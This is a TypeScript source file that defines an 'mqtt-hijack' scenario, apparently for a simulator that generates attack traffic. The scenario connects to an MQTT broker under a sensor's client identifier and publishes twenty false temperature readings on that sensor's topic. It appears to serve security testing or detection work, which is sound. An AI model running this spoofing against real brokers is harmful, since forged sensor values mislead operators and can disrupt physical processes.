import { encodeConnect, encodeConnectAcknowledgment, encodePublish } from "../encode/mqtt.ts";
import type { Scenario } from "../engine/scenario.ts";
import { answer, ask, type Step } from "../engine/script.ts";
import { SECOND } from "../schedule.ts";
import { number, speakOnce } from "./ways.ts";

/** Somebody else publishes under a sensor's name. */
export const mqttHijack: Scenario = {
  name: "mqtt-hijack",
  title: "MQTT topic taken over",
  kind: "attack",
  technique: "T0856",
  detail: "A second connection with a sensor's client identifier publishes false values on its topic.",
  options: { victim: "name of the sensor", messages: "how many, 20 unless told" },
  targets: ["mqtt-broker"],
  play(cast) {
    const victim = typeof cast.options["victim"] === "string" ? cast.options["victim"] : cast.actor.name;
    const steps: Step[] = [
      ask((out) => out.bytes(encodeConnect(victim, 60))),
      answer((out) => out.bytes(encodeConnectAcknowledgment())),
    ];
    for (let message = 0; message < number(cast, "messages", 20); message++) {
      const payload = `{"value":-40.00,"time":${cast.world.clock() + message}}`;
      steps.push(ask((out) => out.bytes(encodePublish(`site/${victim}/temperature`, payload)), SECOND));
    }
    speakOnce(cast, cast.targets[0], "mqtt", 1883, ["write"], steps);
  },
};
